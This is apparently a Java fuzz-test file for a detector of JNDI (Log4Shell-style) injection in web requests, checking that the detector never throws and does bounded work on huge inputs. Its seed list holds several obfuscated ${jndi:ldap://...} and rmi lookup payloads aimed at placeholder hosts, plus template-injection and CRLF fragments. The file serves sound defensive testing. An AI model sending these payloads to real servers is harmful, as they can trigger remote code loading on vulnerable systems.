package ai.traceable.tme.engine.detect.jndi;

import static org.assertj.core.api.Assertions.assertThat;

import ai.traceable.tme.engine.detect.DetectorHarness;
import ai.traceable.tme.engine.inspect.Inspected;
import ai.traceable.tme.engine.inspect.Placement;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JndiFuzzTest {
  private static final JndiDetector DETECTOR = new JndiDetector();

  private static final String[] SEEDS = {
    "${jndi:ldap://x.example/a}",
    "${${lower:j}ndi:${lower:l}dap://x/}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://x/}",
    "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/}",
    "${${base64:JHtqbmRpOmxkYXA6Ly94L2F9}}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/}",
    "${env:USER}",
    "${date:'j'}"
  };

  @Test
  void randomTextNeverThrows() {
    DetectorHarness.fuzzRandomText(DETECTOR, 21L);
  }

  @Test
  void mutatedAttacksNeverThrow() {
    DetectorHarness.fuzzMutations(DETECTOR, 22L, SEEDS, Placement.values());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "${",
        "$(",
        "{{",
        "\n",
        "\r\n",
        "{%",
        "<%",
        "#set(",
        "__class__",
        "${j",
        "${${lower:j}",
        "${::-",
        "}",
        "{{7*7",
        "x ",
        "%0d%0a",
        "\u560a"
      })
  void megabyteInputsTakeBoundedWork(String unit) {
    String s = DetectorHarness.repeat(unit, 1 << 20);
    for (Placement p : new Placement[] {Placement.QUERY, Placement.JSON, Placement.HEADER}) {
      long work = DETECTOR.inspectCounting(new Inspected(p, "v", s, s), (r, snippet) -> {});
      assertThat(work).as(unit).isLessThanOrEqualTo(64L * s.length());
    }
  }
}
